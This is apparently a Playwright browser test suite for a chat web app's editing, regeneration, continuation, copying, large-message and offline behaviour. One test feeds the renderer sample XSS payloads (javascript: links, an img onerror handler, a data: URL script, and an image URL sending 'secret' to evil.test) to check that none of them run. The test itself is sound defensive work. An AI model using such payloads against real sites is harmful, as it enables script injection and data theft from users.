"""Asking differently: an earlier question changed, an answer made anew; tools; and texts of any size."""

from __future__ import annotations

import itertools
import re

import pytest
import requests
from playwright.sync_api import Page

from tests.browser.chat_page import ChatPage, counted
from tests.browser.conftest import NewPage
from tests.browser.line import Line
from tests.conftest import Serve
from tests.rig import script
from tests.rig.serving import Server
from tests.rig.upstream import ScriptedUpstream

pytestmark = pytest.mark.browser


def said(upstream: ScriptedUpstream) -> list[str]:
    return [m["content"] for m in upstream.state()["requests"][-1]["body"]["messages"]]


@pytest.fixture
def talked(chat: ChatPage, upstream: ScriptedUpstream) -> ChatPage:
    """a → one, b → two; the next answer is "three"."""
    upstream.script(script.deltas(["one"]), script.deltas(["two"]), script.deltas(["three"]))
    return chat.ask("a").answers(1).ask("b").answers(2)


def edit(chat: ChatPage, question: str) -> None:
    turn = chat.page.locator(".question", has=chat.page.get_by_text(question, exact=True))
    turn.hover()
    turn.get_by_role("button", name="Edit").click()


def test_an_earlier_question_is_changed_and_what_followed_it_is_replaced_in_every_tab(
    talked: ChatPage, server: Server, upstream: ScriptedUpstream
) -> None:
    other = talked.second_tab(server.url)
    other.answers(2)
    edit(talked, "a")
    assert talked.draft == "a"
    talked.until_says("You are changing an earlier message.")
    talked.ask("a, differently").until_text("three")
    for tab in (talked, other, talked.reload()):
        tab.until_text("three").answers(1)
        assert (tab.questions, tab.texts) == (["a, differently"], ["three"])
    assert said(upstream) == ["a, differently"]


def test_the_key_up_changes_the_last_question_and_what_was_being_written_comes_back(talked: ChatPage) -> None:
    talked.page.press("#message", "ArrowUp")
    assert talked.draft == "b"
    talked.page.keyboard.press("Escape")
    assert talked.draft == ""
    talked.type("a draft")
    edit(talked, "b")
    talked.type("b!")
    talked.reload()
    assert talked.draft == "b!"
    talked.button("Cancel").click()
    assert (talked.draft, talked.questions) == ("a draft", ["a", "b"])


def test_a_changed_question_that_cannot_be_sent_loses_neither_itself_nor_what_it_replaces(
    talked: ChatPage, upstream: ScriptedUpstream
) -> None:
    talked.page.route("**/chat", lambda route: route.abort())
    edit(talked, "b")
    talked.ask("b!").until_says("Not sent")
    assert (talked.questions, talked.draft) == (["a", "b!"], "b!")
    talked.button("Discard").click()
    talked.until("() => document.querySelectorAll('.answer').length === 2")
    assert (talked.questions, talked.texts) == (["a", "b"], ["one", "two"])
    talked.page.unroute("**/chat")
    talked.page.press("#message", "Enter")
    talked.until_text("three")
    assert said(upstream) == ["a", "one", "b!"]


def test_an_answer_is_made_anew_in_its_place(talked: ChatPage, upstream: ScriptedUpstream) -> None:
    assert talked.button("Regenerate").count() == 1  # of the last one only
    talked.button("Regenerate").click()
    talked.until_text("three").answers(2)
    assert (talked.questions, talked.texts) == (["a", "b"], ["one", "three"])
    assert said(upstream) == ["a", "one", "b"]
    assert talked.reload().answers(2).texts == ["one", "three"]


@pytest.mark.parametrize("end", ["stopped", "length"])
def test_an_answer_that_did_not_come_to_its_end_can_be_continued_and_stays(
    chat: ChatPage, upstream: ScriptedUpstream, end: str
) -> None:
    first = script.cut(["half of"], "hang")
    if end == "length":
        first = {"steps": [{"delta": "half of"}, {"finish": "length"}, {"done": True}]}
    upstream.script(first, script.deltas(["the rest"]))
    chat.ask("a").until_text("half of")
    if end == "stopped":
        chat.button("Stop the answer").click()
    chat.answers(1)
    chat.type("a draft")
    chat.button("Continue").click()
    chat.until_text("the rest").answers(2)
    go_on = "Please go on exactly where you stopped."
    assert said(upstream) == ["a", "half of", go_on]
    assert chat.turns == ["a", "half of", go_on, "the rest"]
    assert chat.draft == "a draft"
    assert chat.button("Continue").count() == 0


def test_an_answer_that_is_whole_offers_no_continuation(talked: ChatPage) -> None:
    assert talked.button("Continue").count() == 0


def test_to_continue_is_asked_in_the_readers_language(new_chat: NewPage, upstream: ScriptedUpstream) -> None:
    upstream.script(script.cut(["一半"], "hang"), script.deltas(["其余"]))
    chat = new_chat(locale="zh-CN").ask("问").until_text("一半")
    chat.button("停止回答").click()
    chat.answers(1).button("继续").click()
    chat.until_text("其余")
    assert said(upstream) == ["问", "一半", "请从刚才停下的地方接着写。"]


def test_an_answer_is_copied_as_it_was_written(
    page: Page, server: Server, upstream: ScriptedUpstream
) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    upstream.script(script.deltas(["**bold**\n\n- a\n"]))
    chat = ChatPage(page).open(server.url).ask().answers(1)
    chat.button("Copy").click()
    chat.until_says("Copied")
    assert page.evaluate("() => navigator.clipboard.readText()") == "**bold**\n\n- a\n"


def test_without_the_modern_clipboard_an_answer_is_copied_all_the_same(
    new_chat: NewPage, upstream: ScriptedUpstream
) -> None:
    upstream.script(script.deltas(["plain"]))
    deny = "Object.defineProperty(navigator, 'clipboard', { value: undefined })"
    chat = new_chat(init=deny).ask().answers(1)
    chat.button("Copy").click()
    chat.until_says("Copied")
    chat.page.press("#message", "Control+v")
    assert chat.draft == "plain"


def test_what_a_tool_is_given_is_a_step_that_unfolds(chat: ChatPage, upstream: ScriptedUpstream) -> None:
    pieces = [
        {"index": 0, "id": "c1", "type": "function", "function": {"name": "weather", "arguments": ""}},
        {"index": 0, "function": {"arguments": '{"city": '}},
        {"index": 0, "function": {"arguments": '"<b>Lyon</b>"}'}},
    ]
    steps = [{"delta": {"tool_calls": [piece]}} for piece in pieces]
    upstream.script({"steps": [*steps, {"finish": "tool_calls"}, {"done": True}]})
    chat.ask().answers(1)
    given = chat.page.get_by_text('{"city": "<b>Lyon</b>"}')
    assert not given.is_visible()
    chat.page.get_by_text("Asks to use weather").click()
    assert given.is_visible()


def test_a_question_of_200_kb_arrives_whole(chat: ChatPage, upstream: ScriptedUpstream) -> None:
    question = "长问题 long question. " * 10_000
    upstream.script(script.deltas(["read it"]))
    chat.ask(question).answers(1)
    assert chat.text == "read it"
    assert said(upstream) == [question.strip()]
    assert chat.reload().answers(1).questions == [question.strip()]


def test_a_question_that_is_too_long_is_said_and_stays(chat: ChatPage) -> None:
    question = "word " * 300_000 + "end"
    chat.page.set_default_timeout(60_000)
    chat.ask(question).until_says("The message is too long.")
    assert chat.draft == question


def test_near_the_limit_the_room_that_is_left_is_said_and_what_is_said_to_fit_does(
    page: Page, serve: Serve, upstream: ScriptedUpstream
) -> None:
    upstream.script(script.deltas(["read it"]))
    chat = ChatPage(page).open(serve(BODY_BYTES="20000").url)
    room = page.locator("#room")
    chat.type("字" * 5_000)
    assert room.inner_text() == ""
    spoken = chat.note_spoken()
    chat.type("字" * 6_800)
    assert room.inner_text().startswith("Characters too many: about ")
    assert [text.split(":")[0] for text in spoken()] == ["Characters too many"]
    chat.type("字" * 6_200)
    left = re.fullmatch("Characters left: about ([0-9]+)", room.inner_text())
    assert left
    chat.type("字" * (6_200 + int(left[1])))
    page.press("#message", "Enter")
    chat.answers(1)
    assert (chat.text, room.inner_text()) == ("read it", "")


MIB = 1 << 20
LINE = "0123456789abcdef" * (MIB // 16 - 1) + "to the last byte"


def test_an_answer_of_one_line_of_1_mib_is_there_to_the_last_byte(
    chat: ChatPage, upstream: ScriptedUpstream
) -> None:
    upstream.script(script.deltas([LINE]))
    chat.page.set_default_timeout(60_000)
    chat.ask().answers(1)
    chat.until_text("to the last byte")
    assert chat.text == LINE
    assert chat.reload().answers(1).until_text("to the last byte").text == LINE


def test_while_a_line_of_1_mib_is_written_the_reader_types_and_stops_it(
    chat: ChatPage, upstream: ScriptedUpstream
) -> None:
    pieces = [LINE[at : at + 16_384] for at in range(0, MIB, 16_384)]
    upstream.script(script.cut(pieces, "hang"))
    chat.page.set_default_timeout(60_000)
    chat.ask().until_text(LINE[:200_000])
    chat.page.locator("#message").press_sequentially("typed meanwhile")
    assert chat.draft == "typed meanwhile"
    chat.until_text("to the last byte")
    chat.button("Stop the answer").click()
    chat.answers(1)
    assert (chat.text, chat.draft) == (LINE, "typed meanwhile")


def test_a_message_of_the_server_of_one_line_of_1_mb_is_shown_and_the_chat_goes_on(
    chat: ChatPage, server: Server, upstream: ScriptedUpstream
) -> None:
    upstream.script(script.deltas(["still here"]))
    chat.page.set_default_timeout(60_000)
    client = chat.page.evaluate("localStorage['deltahub.client']")
    sent = {"clientId": client, "data": LINE[-1_000_000:]}
    assert requests.post(f"{server.url}/sse/send", json=sent, timeout=10).status_code in (200, 202)
    chat.until("() => document.querySelector('#log > .line')?.textContent.endsWith('to the last byte')")
    chat.ask().answers(1)
    assert chat.turns == [LINE[-1_000_000:], "hello", "still here"]


def test_an_answer_of_1_mb_is_read_while_it_comes_and_the_page_stays_usable(
    chat: ChatPage, upstream: ScriptedUpstream
) -> None:
    line = "Line {i} of **many**, with a `word` and some more of them to fill it up.\n\n"
    count = 1_000_000 // len(line)
    upstream.script(script.counted(count, text=line))
    chat.page.set_default_timeout(90_000)
    chat.ask().until_text("Line 100 of")
    chat.page.locator("#message").press_sequentially("typed meanwhile")
    assert chat.draft == "typed meanwhile"
    chat.answers(1)
    chat.until(f"() => document.querySelector('.answer > .text').textContent.includes('Line {count - 1} of')")
    assert chat.page.locator(".answer strong").count() == count


def test_injected_markup_loads_nothing_and_leads_nowhere(chat: ChatPage, upstream: ScriptedUpstream) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    chat.page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    evil = (
        "[here](javascript:alert(1)) ![x](https://evil.test/?q=secret) "
        "<img src=https://evil.test/i onerror=alert(2)> "
        "[d](data:text/html,<script>alert(3)</script>) "
        "<a href='javascript:alert(4)'>b</a> <https://evil.test/auto>"
    )
    upstream.script(script.deltas(list(evil)))
    chat.ask().answers(1)
    assert not [url for url in asked if "evil.test" in url]
    assert chat.page.locator(".answer img").count() == 0
    hrefs = chat.page.eval_on_selector_all(".answer a", "(found) => found.map(({ href }) => href)")
    assert hrefs == ["https://evil.test/auto"]
    assert "noopener" in (chat.page.locator(".answer a").get_attribute("rel") or "")


def test_a_page_that_is_offline_for_ten_seconds_in_the_middle_ends_with_the_whole_answer(
    page: Page, server: Server, upstream: ScriptedUpstream
) -> None:
    upstream.script(script.counted(150, gap=0.1))
    with Line(server) as line:
        chat = ChatPage(page).open(line.url).ask().until_text("w5 ")
        page.context.set_offline(True)
        line.cut(dead=True)
        chat.until_says("You are offline.")
        page.wait_for_timeout(10_000)
        line.mend()
        page.context.set_offline(False)
        page.set_default_timeout(30_000)
        chat.answers(1)
    assert chat.text == counted(150)


def test_seven_tabs_at_once_all_show_the_same_conversation(
    chat: ChatPage, server: Server, upstream: ScriptedUpstream
) -> None:
    upstream.script(script.counted(40, gap=0.05))
    tabs = [chat, *(chat.second_tab(server.url) for _ in range(6))]
    chat.ask()
    for tab in tabs:
        tab.page.bring_to_front()
        tab.answers(1)
        assert tab.text == counted(40)
    tabs[6].ask("again")
    for tab in tabs:
        tab.page.bring_to_front()
        tab.answers(2)


def test_an_answer_never_blanks_or_shrinks_while_it_is_written(
    chat: ChatPage, upstream: ScriptedUpstream
) -> None:
    text = "# One\n\n- a **b** `c`\n- d\n\n| e | f |\n|---|---|\n| 1 | 2 |\n\n"
    text += "```js\nlet g = 1;\n```\n\nh [i](https://j.test) k\n"
    upstream.script(script.deltas(list(text), gap=0.01))
    chat.page.evaluate("""() => {
        window.seen = [];
        const look = () => {
            const text = document.querySelector('.answer > .text');
            if (text && !text.hidden) seen.push(text.getBoundingClientRect().height);
            requestAnimationFrame(look);
        };
        look();
    }""")
    chat.ask().answers(1)
    heights: list[float] = chat.page.evaluate("() => seen")
    heights = heights[next(at for at, height in enumerate(heights) if height) :]
    assert len(heights) > 30
    assert min(heights) > 0
    falls = [(a, b) for a, b in itertools.pairwise(heights) if b < a - 1]
    assert falls == []
